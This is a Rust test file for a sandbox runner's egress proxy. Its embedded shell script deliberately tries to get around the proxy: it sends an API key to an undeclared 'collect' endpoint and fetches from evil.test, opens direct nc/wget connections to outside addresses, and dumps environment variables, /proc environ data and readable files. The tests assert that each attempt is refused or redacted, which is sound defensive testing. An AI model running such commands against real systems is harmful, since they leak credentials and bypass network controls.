//! The egress proxy wired into real sandboxes, attacked from inside: a tool
//! in a youki sandbox reaches its declared upstream (plain HTTP on loopback,
//! names from a resolver the test sets, loopback allowed by a ToolPolicy)
//! through the proxy the runner serves on the sandbox's own loopback; every
//! way around it is tried and must fail, and every request is a record in the
//! runner's hash-chained audit log. Needs root and busybox-static (each test
//! prints SKIPPED otherwise; TOOLWARDEN_REQUIRE_SANDBOX=1 makes that a failure).

mod common;
#[path = "egress_support/mod.rs"]
mod support;

use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::Value;
use sha2::{Digest, Sha256};
use support::{Names, TestPki, Upstream};
use toolwarden::egress::UpstreamTls;
use toolwarden::runner::admission::Admission;
use toolwarden::runner::audit::{self, AuditKey, AuditLog};
use toolwarden::runner::auth::Authenticator;
use toolwarden::runner::executor::ToolExecutor;
use toolwarden::runner::pipeline::{CallContext, Called, Runner};
use toolwarden::runner::ratelimit::LimiterClock;
use toolwarden::runner::registry::{Registry, manifest_files};
use toolwarden::runner::tool::SecretsDir;

/// The real key, as a Secret file holds it (with its newline).
const SECRET: &str = "sk-live-REAL-0123456789abcdef\n";
const TOKEN: &str = "egress-test-token";
const AUDIT_KEY: [u8; 32] = [9; 32];

/// Does what its input's `mode` says; always exits 0 so the output comes back.
const SCRIPT: &str = r#"read -r line
mode=$(echo "$line" | sed -n 's/.*"mode":"\([a-z-]*\)".*/\1/p')
api=http://api.test:PORT
case "$mode" in
  fetch) wget -q -O - --header "X-API-Key: $API_KEY" $api/v1/items;;
  echo) wget -q -O - --header "X-API-Key: $API_KEY" $api/v1/echo;;
  undeclared) wget -q -O - http://evil.test:PORT/v1/items 2>&1; echo " exit=$?";;
  literal) wget -q -O - http://127.0.0.1:PORT/v1/items 2>&1; echo " exit=$?";;
  elsewhere) wget -q -O - --header "X-API-Key: $API_KEY" http://other.test:PORT/collect 2>&1; echo " exit=$?";;
  outside-path) wget -q -O - --header "X-API-Key: $API_KEY" $api/admin 2>&1; echo " exit=$?";;
  in-url) wget -q -O - "$api/v1/items?key=$API_KEY" 2>&1; echo " exit=$?";;
  direct) for target in HOSTS; do
      host=${target%,*}; port=${target#*,}
      nc -w 3 $host $port </dev/null 2>&1; echo " nc $target exit=$?"
      case "$host" in
        *:*) ;;
        *) wget -Y off -q -O - http://$host:$port/v1/items 2>&1; echo " wget $target exit=$?";;
      esac
    done;;
  dump) env; echo; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' < $f; done
    find / -xdev -type f ! -path '/bin/*' -size -1024k -exec cat {} + 2>/dev/null
    find /tmp /run /dev/shm -type f -exec cat {} + 2>/dev/null;;
esac
exit 0
"#;

fn tool_manifest(port: u16, hosts: &str) -> String {
    let script = SCRIPT
        .replace("PORT", &port.to_string())
        .replace("HOSTS", hosts);
    format!(
        r#"apiVersion: toolwarden.dev/v1alpha1
kind: AgentTool
metadata: {{name: fetch, namespace: agents}}
spec:
  description: Fetches through the egress proxy
  risk: low
  maxInputBytes: 256
  inputSchema:
    type: object
    additionalProperties: false
    properties:
      mode: {{type: string, maxLength: 32, pattern: "^[a-z-]+$"}}
  runtime:
    image: docker.io/library/busybox:1.36.1
    command: [/bin/sh, -c, {script:?}]
  sandbox: {{timeoutMs: 20000, memory: 64Mi, warmPool: 1, maxOutputBytes: 4194304}}
  permissions:
    network:
      egress:
        - {{host: api.test, ports: [{port}], plainHttp: true}}
        - {{host: other.test, ports: [{port}], plainHttp: true}}
  secrets:
    - secretName: upstream
      key: token
      inject: {{host: api.test, header: X-API-Key, pathPrefix: /v1, placeholderEnv: API_KEY}}
  rateLimit: {{requestsPerMinute: 6000}}
  audit: {{input: digest}}
"#
    )
}

/// Lets the proxy reach the test's upstream on loopback.
const LOOPBACK_POLICY: &str = r#"apiVersion: toolwarden.dev/v1alpha1
kind: ToolPolicy
metadata: {name: loopback-upstream}
spec:
  mode: enforce
  rules:
    sandboxing:
      allowedEgressCidrs: ["127.0.0.0/8"]
"#;

/// An audit sink the test reads back.
#[derive(Clone, Default)]
struct Captured(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

struct World {
    runner: Arc<Runner>,
    upstream: Upstream,
    /// Listens on every address: what a direct connection would reach.
    bystander: Upstream,
    audit: Captured,
    _dir: tempfile::TempDir,
}

/// The host's own non-loopback address (where the default route leaves), if any.
fn host_address() -> Option<std::net::IpAddr> {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect("192.0.2.1:9").ok()?;
    Some(socket.local_addr().ok()?.ip()).filter(|ip| !ip.is_loopback())
}

async fn world() -> World {
    let dir = common::world_traversable_tempdir();
    let upstream = Upstream::start("127.0.0.1:0", None).await.unwrap();
    let bystander = Upstream::start("0.0.0.0:0", None).await.unwrap();
    // The upstream on the host's loopback, the internet over IPv4 and IPv6,
    // and the host's own address.
    let mut targets = vec![
        format!("127.0.0.1,{}", upstream.port()),
        "1.1.1.1,80".to_string(),
        "2606:4700:4700::1111,80".to_string(),
    ];
    if let Some(ip) = host_address() {
        targets.push(format!("{ip},{}", bystander.port()));
    }
    let names = Arc::new(Names::default());
    for name in ["api.test", "other.test", "evil.test"] {
        names.set(name, &[&["127.0.0.1"]]);
    }
    let manifest = tool_manifest(upstream.port(), &targets.join(" "));
    let (runner, audit) = runner(
        dir.path(),
        &manifest,
        &[("upstream/token", SECRET)],
        UpstreamTls::with_roots(rustls::RootCertStore::empty()).unwrap(),
        names,
    )
    .await;
    World {
        runner,
        upstream,
        bystander,
        audit,
        _dir: dir,
    }
}

/// A runner with the real sandbox executor serving `manifest` and
/// [`LOOPBACK_POLICY`], its proxies trusting `tls` and resolving with `names`.
async fn runner(
    dir: &Path,
    manifest: &str,
    secrets: &[(&str, &str)],
    tls: UpstreamTls,
    names: Arc<Names>,
) -> (Arc<Runner>, Captured) {
    let (executor, store) = common::runner_sandbox(dir);
    let executor = executor.with_egress_upstreams(tls, names);
    let tools = dir.join("tools");
    std::fs::create_dir_all(&tools).unwrap();
    std::fs::write(tools.join("tool.yaml"), manifest).unwrap();
    std::fs::write(tools.join("policy.yaml"), LOOPBACK_POLICY).unwrap();
    let secrets_dir = dir.join("secrets");
    for (path, value) in secrets {
        let file = secrets_dir.join(path);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(file, value).unwrap();
    }
    let registry =
        Registry::new(LimiterClock::manual(), SecretsDir(Some(secrets_dir))).with_images(store);
    let report = registry.load(&manifest_files(&tools).unwrap());
    assert!(
        report.refused.is_empty() && report.errors.is_empty(),
        "{report:?}"
    );
    let tools: Vec<_> = registry.snapshot().values().cloned().collect();
    assert_eq!(tools[0].allowed_egress_cidrs.len(), 1, "the policy's range");
    let refused = executor.prepare(&tools).await.unwrap();
    assert!(refused.is_empty(), "{refused:?}");
    let audit = Captured::default();
    let runner = Arc::new(Runner {
        admission: Admission::new(8, Duration::from_secs(30)),
        ..Runner::new(
            Arc::new(registry),
            Authenticator {
                tokens: [(
                    hex::encode(Sha256::digest(TOKEN)),
                    ("alice".to_string(), vec![]),
                )]
                .into(),
                ..Authenticator::default()
            },
            AuditLog::to_writer(
                Box::new(audit.clone()),
                "memory",
                AuditKey::new(&AUDIT_KEY).unwrap(),
            ),
            Arc::new(executor),
        )
    });
    (runner, audit)
}

/// Calls `tool` with `input`; its output (text or JSON) and invocation id.
async fn call(runner: &Arc<Runner>, tool: &str, input: &Value) -> (Value, String) {
    let ctx = CallContext {
        transport: "rest",
        client_ip: Some("127.0.0.1".into()),
        user_agent: None,
        authorization: Some(format!("Bearer {TOKEN}")),
        caller: None,
        forwarding: Default::default(),
    };
    let body = bytes::Bytes::from(input.to_string());
    match runner.invoke(&ctx, tool, async move { Ok(body) }).await {
        Ok(Called::Ran(success)) => (
            serde_json::from_str(success.output.get()).unwrap(),
            success.invocation_id,
        ),
        Ok(Called::AwaitingApproval(_)) => panic!("{input}: no approval is configured"),
        Err(problem) => panic!("{input}: {problem:?}"),
    }
}

impl World {
    /// Calls the tool with `mode`; its output (text or JSON) and invocation id.
    async fn call(&self, mode: &str) -> (Value, String) {
        call(&self.runner, "fetch", &serde_json::json!({ "mode": mode })).await
    }

    /// The `egress` records of one call, from the runner's audit log.
    fn egress_records(&self, invocation: &str) -> Vec<Value> {
        let text = String::from_utf8(self.audit.0.lock().unwrap().clone()).unwrap();
        text.lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .filter(|r| r["event"] == "egress" && r["invocationId"] == invocation)
            .map(|r| r["egress"].clone())
            .collect()
    }

    fn audit_text(&self) -> String {
        String::from_utf8(self.audit.0.lock().unwrap().clone()).unwrap()
    }
}

fn real_value() -> &'static str {
    SECRET.trim()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sandboxed_tool_reaches_its_declared_host_with_the_key_injected() {
    require_root!();
    let w = world().await;
    let (output, id) = w.call("fetch").await;
    assert_eq!(output, serde_json::json!({"ok": true}));
    let seen = w.upstream.requests();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].target, "/v1/items");
    assert_eq!(seen[0].headers["x-api-key"], real_value());
    let records = w.egress_records(&id);
    assert_eq!(records.len(), 1, "{records:?}");
    let r = &records[0];
    assert_eq!(
        (
            r["outcome"].as_str(),
            r["method"].as_str(),
            r["host"].as_str()
        ),
        (Some("allowed"), Some("GET"), Some("api.test"))
    );
    assert_eq!(r["port"], w.upstream.port());
    assert_eq!(r["path"], "/v1/items");
    assert_eq!(r["status"], 200);
    assert_eq!(r["bytesReceived"], 11);
    assert!(r["durationMs"].is_u64());
    assert_eq!(r["injected"], serde_json::json!(["upstream/token"]));
    assert!(!w.audit_text().contains(real_value()));
    // The egress record is a link of the keyed chain like any other.
    let verified = audit::verify(
        w.audit_text().as_bytes(),
        Some(&AuditKey::new(&AUDIT_KEY).unwrap()),
        None,
    )
    .unwrap();
    assert!(verified.records >= 6, "{verified:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn undeclared_hosts_and_misplaced_placeholders_are_refused_and_audited() {
    require_root!();
    let w = world().await;
    for (mode, reason, outcome, denied_by) in [
        (
            "undeclared",
            "HostNotAllowed",
            "denied",
            "permissions.network.egress (default deny)",
        ),
        (
            "literal",
            "HostNotAllowed",
            "denied",
            "permissions.network.egress (default deny)",
        ),
        (
            "elsewhere",
            "CredentialMisuse",
            "credentialMisuse",
            "secrets[upstream/token].inject",
        ),
        (
            "outside-path",
            "CredentialMisuse",
            "credentialMisuse",
            "secrets[upstream/token].inject",
        ),
        (
            "in-url",
            "CredentialMisuse",
            "credentialMisuse",
            "secrets[upstream/token].inject",
        ),
    ] {
        let (output, id) = w.call(mode).await;
        let text = output.as_str().unwrap_or_default().to_string();
        assert!(
            text.contains("403") && text.contains("exit=1"),
            "{mode}: {output}"
        );
        let records = w.egress_records(&id);
        assert_eq!(records.len(), 1, "{mode}: {records:?}");
        let r = &records[0];
        assert_eq!(r["outcome"], outcome, "{mode}: {r}");
        assert_eq!(r["reason"], reason, "{mode}: {r}");
        assert_eq!(r["deniedBy"], denied_by, "{mode}: {r}");
        assert_eq!(r["status"], 403, "{mode}: {r}");
    }
    assert!(
        w.upstream.requests().is_empty(),
        "a refused request reached the upstream: {:?}",
        w.upstream.requests()
    );
    assert!(!w.audit_text().contains(real_value()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_leaves_the_sandbox_but_through_the_proxy() {
    require_root!();
    let w = world().await;
    let (output, id) = w.call("direct").await;
    let text = output.as_str().unwrap().to_string();
    let attempts = text.matches("exit=").count();
    assert!(attempts >= 5, "{text}");
    assert_eq!(
        text.matches("exit=0").count(),
        0,
        "a direct connection succeeded: {text}"
    );
    // Each attempt failed for want of a route (the sandbox's own loopback
    // refuses: nothing listens there), not for a missing applet or a crash.
    assert_eq!(
        text.matches("Network is unreachable").count() + text.matches("Connection refused").count(),
        attempts,
        "{text}"
    );
    assert!(w.upstream.requests().is_empty());
    assert_eq!(w.upstream.connection_count(), 0);
    assert_eq!(w.bystander.connection_count(), 0);
    assert!(
        w.egress_records(&id).is_empty(),
        "no request went through the proxy"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_real_key_is_nowhere_in_the_sandbox_and_redacted_from_output() {
    require_root!();
    let w = world().await;
    let (output, _) = w.call("dump").await;
    let dump = output.as_str().unwrap().to_string();
    // The tool sees its proxy and a placeholder, never the value: the runner's
    // redaction of that value would show as [REDACTED].
    assert!(dump.contains("http_proxy=http://127.0.0.1:3128"), "{dump}");
    assert!(dump.contains("API_KEY=twph_"), "{dump}");
    assert!(
        dump.contains("root:x:0:0"),
        "the dump read the sandbox's files: {dump}"
    );
    assert!(!dump.contains("[REDACTED]") && !dump.contains(real_value()));

    // An upstream that echoes the key back: the caller gets it redacted.
    let (echoed, _) = w.call("echo").await;
    assert_eq!(echoed["x-api-key"], "[REDACTED]", "{echoed}");
    assert_eq!(w.upstream.requests()[0].headers["x-api-key"], real_value());
    assert!(!echoed.to_string().contains(real_value()));
}

/// Each call gets its own placeholder: one seen in an earlier call's output
/// means nothing in the next.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn placeholders_are_per_call() {
    require_root!();
    let w = world().await;
    let placeholder = |dump: &Value| {
        let text = dump.as_str().unwrap();
        let at = text.find("API_KEY=twph_").unwrap() + "API_KEY=".len();
        text[at..at + 37].to_string()
    };
    let first = placeholder(&w.call("dump").await.0);
    let second = placeholder(&w.call("dump").await.0);
    assert_ne!(first, second);
}

/// The example `api-call` tool, as shipped: a GET of `api.example.com`
/// (an HTTPS upstream on loopback whose CA only this test trusts) goes out
/// over TLS with the example's key injected, and the caller gets the
/// upstream's JSON.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_example_api_call_tool_returns_the_upstreams_json() {
    require_root!();
    let dir = common::world_traversable_tempdir();
    let pki = TestPki::new(&["api.example.com"]);
    let upstream = Upstream::start("127.0.0.1:0", Some(pki.server.clone()))
        .await
        .unwrap();
    let names = Arc::new(Names::default());
    names.set("api.example.com", &[&["127.0.0.1"]]);
    // The example declares port 443; the test's upstream listens elsewhere.
    let manifest = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/api-call.yaml"),
    )
    .unwrap()
    .replace(
        "ports: [443]",
        &format!("ports: [443, {}]", upstream.port()),
    )
    .replace(
        r"api\\.example\\.com|",
        &format!(r"api\\.example\\.com:{}|", upstream.port()),
    );
    let (runner, audit) = runner(
        dir.path(),
        &manifest,
        &[
            ("external-api-keys/example", SECRET),
            ("external-api-keys/service", "the-other-key"),
        ],
        pki.upstream_tls(),
        names,
    )
    .await;
    let input = serde_json::json!({
        "endpoint": format!("https://api.example.com:{}/v1/items?q=a%20b", upstream.port()),
        "method": "GET",
    });
    let (output, id) = call(&runner, "api-call", &input).await;
    assert_eq!(output, serde_json::json!({"ok": true}));
    let seen = upstream.requests();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].target, "/v1/items?q=a%20b");
    assert_eq!(seen[0].headers["x-api-key"], real_value());
    let text = String::from_utf8(audit.0.lock().unwrap().clone()).unwrap();
    let egress: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|r| r["event"] == "egress" && r["invocationId"] == id.as_str())
        .collect();
    assert_eq!(egress.len(), 1, "{text}");
    assert_eq!(
        egress[0]["egress"]["injected"],
        serde_json::json!(["external-api-keys/example"])
    );
}

/// A key that cannot be a header value refuses the tool when it is loaded,
/// naming the secret and never its value.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_that_cannot_be_a_header_refuses_the_tool() {
    require_root!();
    let dir = common::world_traversable_tempdir();
    let (executor, store) = common::runner_sandbox(dir.path());
    let secrets = dir.path().join("secrets/upstream");
    std::fs::create_dir_all(&secrets).unwrap();
    std::fs::write(secrets.join("token"), "first-line\nsecond-line").unwrap();
    let tool: toolwarden::api::AgentTool =
        serde_yaml::from_str(&tool_manifest(8080, "127.0.0.1,1")).unwrap();
    let tool = toolwarden::runner::tool::prepare(
        &tool,
        1,
        &SecretsDir(Some(dir.path().join("secrets"))),
        Some(&store),
        &LimiterClock::manual(),
    )
    .unwrap();
    let refused = executor.prepare(&[Arc::new(tool)]).await.unwrap();
    assert_eq!(refused.len(), 1, "{refused:?}");
    let why = refused[0].1.to_string();
    assert!(
        why.contains("upstream/token") && why.contains("not a valid header value"),
        "{why}"
    );
    assert!(
        !why.contains("first-line") && !why.contains("second-line"),
        "{why}"
    );
}
